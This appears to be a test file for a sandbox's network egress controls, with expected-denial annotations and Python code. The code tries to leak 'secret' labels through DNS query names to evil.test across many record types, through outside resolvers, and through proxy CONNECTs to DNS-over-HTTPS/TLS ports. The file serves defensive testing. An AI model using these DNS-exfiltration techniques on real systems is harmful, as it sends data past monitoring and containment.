# try: secrets in the names of DNS queries, other record types, other servers, DNS over HTTPS
# allow: {"domain": "allowed.test"}
# expect: succeeded
# expect-result: {"answers": []}
# expect-denied: not_allowed resolve secret-0.evil.test
# expect-denied: not_allowed 1.1.1.1:443
# sim: resolve secret-0.evil.test
# sim: connect tcp 1.1.1.1:443
# sim: result {"answers": []}
import socket
import struct

answers = []


def query(name, kind, server):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    message = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        try:
            s.sendto(message, server)
            answer = s.recv(4096)
            if struct.unpack("!H", answer[6:8])[0]:
                answers.append([name, kind, server[0]])
        except OSError:
            pass


for number, kind in enumerate((1, 28, 16, 15, 5, 255, 65)):
    query(f"secret-{number}.evil.test", kind, ("127.0.0.1", 53))
query("secret-text.allowed.test", 16, ("127.0.0.1", 53))
query("secret-8.evil.test", 1, ("8.8.8.8", 53))
try:
    socket.gethostbyname("secret-9.evil.test")
    answers.append("getaddrinfo")
except OSError:
    pass
for address in (("1.1.1.1", 443), ("8.8.8.8", 853)):
    try:
        with socket.create_connection(("127.0.0.53", 3128), 5) as s:
            s.settimeout(5)
            s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n" % (address[0].encode(), address[1]))
            if b" 200 " in s.recv(100):
                answers.append(list(address))
    except OSError:
        pass
enclave.result({"answers": answers})
